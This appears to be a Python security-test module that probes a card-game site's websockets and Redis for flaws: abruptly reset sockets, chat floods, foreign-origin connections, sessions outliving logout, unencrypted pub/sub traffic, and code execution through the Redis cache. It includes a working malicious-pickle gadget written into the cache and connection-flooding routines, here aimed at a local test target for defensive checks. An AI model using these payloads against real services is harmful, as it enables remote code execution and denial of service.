"""Attacks on live sockets. Each yields what it broke, in a sentence."""

from __future__ import annotations

import os
import pickle
import socket
import struct
import time
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from pathlib import Path

from redis import Redis
from redis.exceptions import RedisError
from websockets.exceptions import WebSocketException

from run.attack.target import Target, answers, memory
from run.trial.visitors import Visitor, hear_until, is_closed

LINES = 600
SOCKETS = 20
MOST_LINES = 40


def cut_sockets(target: Target) -> Iterator[str]:
    """Request views on many sockets, and reset their connections without closing them."""
    visitor = Visitor(target.url)
    table = visitor.opens_a_table()
    before = memory(target)
    for _round in range(5):
        links = [visitor.live(f"/ws/table/{table}/") for _link in range(30)]
        for link in links:
            with suppress(WebSocketException):
                for _message in range(15):
                    link.send('{"type": "sync"}')
            link.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            link.socket.close()
    if not answers(target):
        yield "after 150 sockets were cut off, no page is answered"
    if (grown := memory(target) - before) > 60:
        yield f"150 sockets that were cut off took {grown:.0f} MB"


def talk_after_the_end(target: Target) -> Iterator[str]:
    """Send messages on a socket that the site has closed."""
    before = target.log.count("Traceback")
    with Visitor(target.url).live("/ws/table/nowhere0000/") as link, suppress(WebSocketException):
        for _message in range(100):
            link.send('{"type": "ping"}')
    with Visitor(target.url).live("/ws/lobby/"):
        pass
    if target.log.count("Traceback") > before:
        yield "messages on a closed socket leave tracebacks"


def flood_of_lines(target: Target) -> Iterator[str]:
    """Send 600 chat lines over twenty sockets."""
    visitor = Visitor(target.url)
    table = visitor.opens_a_table()
    said = 0
    with ExitStack() as open_links:
        links = [open_links.enter_context(visitor.live(f"/ws/table/{table}/")) for _link in range(SOCKETS)]
        hear_until(links[0], "chats")
        with suppress(WebSocketException):
            for line in range(LINES):
                links[line % SOCKETS].send(f'{{"type": "chat", "text": "{line}"}}')
        with suppress(TimeoutError, WebSocketException):
            while said < LINES:
                hear_until(links[0], "chat", seconds=2)
                said += 1
    if said > MOST_LINES:
        yield f"{said} of {LINES} chat lines were passed on"


def foreign_pages(target: Target) -> Iterator[str]:
    """Open sockets from pages of another site or another port."""
    for origin in ("http://evil.example", "http://127.0.0.1:1", "null"):
        with suppress(WebSocketException), Visitor(target.url).live("/ws/lobby/", origin):
            yield f"a page of {origin} may open sockets"


def sockets_of_a_session(target: Target) -> Iterator[str]:
    """Keep a socket open after its player has signed out."""
    visitor = Visitor(target.url)
    table = visitor.opens_a_table()
    with visitor.live(f"/ws/table/{table}/") as link:
        hear_until(link, "view", "chats")
        visitor.post("/account/logout/")
        if not is_closed(link):
            yield "a socket outlives its session"


class _Trap:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (str(self.path),)


def listener_in_redis(target: Target) -> Iterator[str]:
    """Listen to Redis for hands, and write pickles into its cache that would run code."""
    visitor, sprung = Visitor(target.url), target.folder / "sprung"
    redis = Redis(unix_socket_path=str(target.folder / "var" / "redis.sock"))
    heard = []
    with redis.pubsub() as ear:  # type: ignore[no-untyped-call]
        ear.psubscribe("*")
        table = visitor.opens_a_table()
        with visitor.live(f"/ws/table/{table}/") as link:
            hear_until(link, "view", "chats")
            until = time.monotonic() + 3
            while time.monotonic() < until:
                heard.append(str(ear.get_message(ignore_subscribe_messages=True, timeout=0.2)))
    if any('"hand"' in text or "legal" in text or table in text for text in heard):
        yield "hands pass through Redis unencrypted"
    for key in redis.scan_iter("*:cache:*"):
        with suppress(RedisError):
            redis.set(key, pickle.dumps(_Trap(sprung)))
    for path in ("/", "/clubs/", "/calendar/"):
        visitor.get(path)
    if sprung.exists():
        yield "code that an attacker writes into the cache is run"
